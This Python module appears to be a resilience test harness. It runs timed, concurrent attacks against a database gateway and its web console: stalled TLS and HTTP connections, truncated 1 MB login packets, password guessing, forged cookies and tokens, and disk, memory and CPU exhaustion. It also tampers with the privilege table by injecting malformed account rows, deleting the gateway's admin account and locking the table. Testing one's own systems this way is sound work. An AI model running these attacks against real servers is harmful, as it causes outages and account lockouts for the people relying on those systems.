"""The attacks, each a loop until a deadline. A failure of the attack itself is counted, never fatal."""

import http.client
import random
import socket
import string
import struct
import time

from wire import CONNECT_ATTRS, Wire, attributes, next_source

# Attributes of one login, sent without their last bytes: the server must keep, drop or refuse what came.
ATTRIBUTE_BYTES = 1 << 20
MISSING_BYTES = 40
# Bare and stalled connections that one thread holds at a time.
HELD = 40
BLOB = 1 << 20


def made_up_prefix():
    return "".join(random.choices(string.ascii_lowercase + string.digits, k=12))


def hold(spec, network, prepare):
    """Opens connections, brings each as far as `prepare` does, and keeps them until the server ends them or 8 s pass.
    Returns how many came that far; raises an error if none did."""
    held = []
    try:
        for _ in range(HELD):
            wire = Wire(spec["host"], spec["port"], next_source(network))
            try:
                prepare(wire)
            except BaseException:
                wire.close()
                raise
            held.append(wire)
    except (OSError, EOFError):
        if not held:
            raise
    finally:
        time.sleep(min(8, 0.2 * len(held)))
        for wire in held:
            wire.close()
    return len(held)


def bare(spec):
    return hold(spec, 20, lambda wire: wire.greeting())


def stalled_hello(spec):
    def prepare(wire):
        wire.greeting()
        wire.write(wire.response_head())
        # A TLS record that announces 16 KB and contains 100 bytes.
        wire.socket.sendall(b"\x16\x03\x01\x40\x00" + b"\x01" * 100)
    return hold(spec, 21, prepare)


def large_login(spec):
    def prepare(wire):
        wire.start_tls()
        login = wire.response(made_up_prefix() + ".root", more=CONNECT_ATTRS) + attributes(ATTRIBUTE_BYTES)
        wire.socket.sendall(struct.pack("<I", len(login))[:3] + b"\x02" + login[:-MISSING_BYTES])
    return hold(spec, 22, prepare)


def handshakes(spec):
    with Wire(spec["host"], spec["port"], next_source(23)) as wire:
        wire.start_tls()
    return 1


def guess(spec):
    """Sends a wrong password for each kind of name: unknown, asleep, failed, busy, and a user that does not exist."""
    names = [made_up_prefix() + ".root", *spec["users"], random.choice(spec["users"]).split(".")[0] + ".nobody"]
    with Wire(spec["host"], spec["port"], next_source(24)) as wire:
        wire.login(random.choice(names), "wrong " + made_up_prefix())
    return 1


def made_up_cookies(spec):
    connection = http.client.HTTPSConnection(spec["host"], spec["console_port"], timeout=10, context=Wire.context)
    try:
        for n in range(50):
            if n % 2:
                connection.request("GET", "/", headers={"Cookie": "__Host-tidegate=" + made_up_prefix()})
            else:
                connection.request("GET", "/v1/clusters", headers={"Authorization": "Bearer " + made_up_prefix()})
            connection.getresponse().read()
    finally:
        connection.close()
    return 50


def slow_headers(spec):
    held = []
    try:
        for _ in range(HELD):
            raw = socket.create_connection((spec["host"], spec["console_port"]), timeout=5,
                                           source_address=(next_source(25), 0))
            held.append(Wire.context.wrap_socket(raw))
            held[-1].sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        time.sleep(5)
    finally:
        for one in held:
            one.close()
    return len(held)


def tenant(spec, name):
    """Opens a session of a hostile tenant, or raises an error with the code of the refusal."""
    user, password = spec["tenants"][name]
    wire = Wire(spec["host"], spec["port"])
    code = wire.login(user, password)
    if code:
        wire.close()
        raise ConnectionError(f"{name}: {code}")
    return wire


def fill_disk(spec):
    with tenant(spec, "disk") as wire:
        wire.query("CREATE TABLE IF NOT EXISTS fill (a LONGBLOB)")
        for done in range(200):
            if wire.query(f"INSERT INTO fill VALUES (RANDOM_BYTES(1024)), (REPEAT(MD5(RAND()), {BLOB // 32}))"):
                time.sleep(1)
                return done
    return 200


def fill_memory(spec):
    with tenant(spec, "memory") as wire:
        for n in range(20):
            if wire.query(f"SET @v{n} = REPEAT('x', 60000000)"):
                return n
        time.sleep(2)
    return 20


def burn(spec):
    with tenant(spec, "burn") as wire:
        wire.query("SET max_statement_time = 20")
        wire.query("SELECT BENCHMARK(1000000000, MD5(1))")
    return 1


def deaf(spec):
    """Requests large results and never reads them."""
    held = []
    try:
        for _ in range(10):
            wire = tenant(spec, "burn")
            held.append(wire)
            wire.ask("SELECT REPEAT('x', 30000000) FROM mysql.help_topic LIMIT 10")
        time.sleep(8)
    finally:
        for wire in held:
            wire.close()
    return len(held)


HOSTILE_ROWS = (
    "INSERT INTO mysql.global_priv VALUES ('boom.example', CONCAT('boom', UUID()), CONCAT('{\"plugin\":\"', "
    "REPEAT('a', 1000000), '\",\"auth_or\":[{}', REPEAT(',{}', 20000), ']}'))",
    "INSERT IGNORE INTO mysql.global_priv SELECT CONCAT('h', help_topic_id, '.example'), UUID(), '{}' FROM mysql.help_topic",
)


def rewrite_accounts(spec):
    """Writes hostile rows, drops the gateway's account and locks its table."""
    with tenant(spec, "accounts") as wire:
        wire.query("CREATE USER IF NOT EXISTS x IDENTIFIED BY 'p'")
        wire.query("GRANT ALL ON `%`.* TO x")
    prefix = spec["tenants"]["accounts"][0].split(".")[0]
    with Wire(spec["host"], spec["port"]) as wire:
        if wire.login(f"{prefix}.x", "p"):
            raise ConnectionError("accounts: the second user was refused")
        for sql in HOSTILE_ROWS:
            wire.query(sql)
        wire.query("DELETE FROM mysql.global_priv WHERE User = 'tidegate.admin'")
        wire.query("FLUSH PRIVILEGES")
        wire.query("LOCK TABLES mysql.global_priv WRITE")
        time.sleep(6)
        wire.query("UNLOCK TABLES")
        wire.query("DELETE FROM mysql.global_priv WHERE Host LIKE '%.example'")
    return 1


# Name: the function, and how many threads run it at once.
ATTACKS = {
    "bare connections": (bare, 2), "stalled TLS": (stalled_hello, 2), "1 MB logins": (large_login, 3),
    "TLS handshakes": (handshakes, 4), "guessed passwords": (guess, 8), "made-up cookies and keys": (made_up_cookies, 2),
    "slow HTTP headers": (slow_headers, 1), "filling the disk": (fill_disk, 1), "filling memory": (fill_memory, 2),
    "burning the processor": (burn, 6), "results never read": (deaf, 1), "hostile account rows": (rewrite_accounts, 1),
}
